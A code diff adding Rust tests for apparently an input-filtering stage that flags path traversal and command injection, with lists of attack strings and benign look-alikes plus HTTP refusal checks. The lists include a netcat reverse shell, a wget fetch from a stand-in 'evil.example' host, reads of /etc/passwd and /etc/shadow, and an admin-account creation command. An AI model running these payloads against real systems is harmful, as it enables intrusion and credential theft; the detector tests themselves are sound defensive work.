@@ -353,6 +353,103 @@ fn sensitivity_changes_what_fires() {
     }
 }
 
+const TRAVERSAL_ATTACKS: &[&str] = &[
+    "../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/../../../web-inf/web.xml",
+    "....//....//etc/passwd",
+    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "%252e%252e%252fetc%252fpasswd",
+    "/0x2e0x2e/0x2e0x2e/etc/passwd",
+    "..%c0%af..%c0%afetc/passwd",
+    "/..0x2f..0x2f..0x2fboot.ini",
+    "/proc/self/environ",
+    "c:\\boot.ini",
+    "/./././../etc/hosts",
+    "////////etc/passwd",
+    "file/...../config",
+];
+
+const COMMAND_ATTACKS: &[&str] = &[
+    "a;id",
+    "a|id",
+    "a);/usr/bin/id|",
+    "1 && whoami",
+    "x; cat /etc/passwd",
+    "x | ls -la",
+    "`id`",
+    "$(whoami)",
+    "& ping -n 30 127.0.0.1 &",
+    "; sleep 10",
+    "| nc 10.0.0.1 4444 -e /bin/sh",
+    "+|+dir+c:",
+    "$&&dir c:/",
+    "; wget http://evil.example/x.sh",
+    "/usr/bin/id",
+    "<!--#exec cmd=\"/bin/cat /etc/shadow\"-->",
+    "; net user admin secret /add",
+];
+
+/// Ordinary values that look a little like paths or shell: they must pass.
+const BENIGN_PATHS_AND_SHELL: &[&str] = &[
+    "docs/guide/intro.md",
+    "https://example.com/a/b/c?d=e",
+    "report.v2.final.pdf",
+    "Wait... what?",
+    "and so on...",
+    "Tom & Jerry; cat lovers",
+    "Q&A | Help",
+    "rock&roll",
+    "menu: Home | About | Contact",
+    "The solicitor, nicknamed \"Bash\"",
+    "see p | | ls 169",
+    "a.b.c.d",
+    "C: drive",
+    "time: 10:30",
+    "id: 42",
+    "echo chamber",
+    "http://example.com/bin/tools",
+    "usr/bin is a folder",
+    "sleep well",
+    "1 | 2 | 3",
+];
+
+#[test]
+fn path_traversal_and_command_injection_are_found() {
+    let missed: Vec<&str> = TRAVERSAL_ATTACKS
+        .iter()
+        .copied()
+        .filter(|attack| inject::traversal_at(attack, Sensitivity::Medium).is_none())
+        .collect();
+    assert!(missed.is_empty(), "missed path traversal: {missed:#?}");
+    let missed: Vec<&str> = COMMAND_ATTACKS
+        .iter()
+        .copied()
+        .filter(|attack| inject::command_at(attack, Sensitivity::Medium).is_none())
+        .collect();
+    assert!(missed.is_empty(), "missed command injection: {missed:#?}");
+    // Off at `low`.
+    assert!(inject::traversal_at("../../etc/passwd", Sensitivity::Low).is_none());
+    assert!(inject::command_at("a;id", Sensitivity::Low).is_none());
+    let finding = inject::traversal_at("%2e%2e%2fetc%2fpasswd", Sensitivity::Medium).unwrap();
+    assert_eq!(finding.attack, Attack::PathTraversal);
+    assert!(finding.to_string().contains("percent"), "{finding}");
+}
+
+#[test]
+fn paths_and_punctuation_in_ordinary_text_pass() {
+    let flagged: Vec<String> = BENIGN_PATHS_AND_SHELL
+        .iter()
+        .chain(BENIGN)
+        .filter_map(|text| {
+            inject::traversal_at(text, Sensitivity::Medium)
+                .or_else(|| inject::command_at(text, Sensitivity::Medium))
+                .map(|finding| format!("{text:?}: {finding}"))
+        })
+        .collect();
+    assert!(flagged.is_empty(), "ordinary text flagged: {flagged:#?}");
+}
+
 // ------------------------------------------------------------------------------------------
 // The stage
 // ------------------------------------------------------------------------------------------
@@ -656,6 +753,20 @@ async fn detectors_can_be_turned_off() {
 
     let xss_only = config(json!({"sql": false})).unwrap();
     assert_passed(&send_to(xss_only, query("q", "' OR '1'='1")).await);
+
+    // Path traversal and command injection: on by default, each with its code.
+    let answer = send(query("file", "../../etc/passwd")).await;
+    assert_refused(&answer, StatusCode::BAD_REQUEST, "path_traversal", "file");
+    let answer = send(query("host", "127.0.0.1 && whoami")).await;
+    assert_refused(
+        &answer,
+        StatusCode::BAD_REQUEST,
+        "command_injection",
+        "host",
+    );
+    let neither = config(json!({"traversal": false, "command": false})).unwrap();
+    assert_passed(&send_to(neither.clone(), query("file", "../../etc/passwd")).await);
+    assert_passed(&send_to(neither, query("host", "127.0.0.1 && whoami")).await);
 }
 
 #[tokio::test]
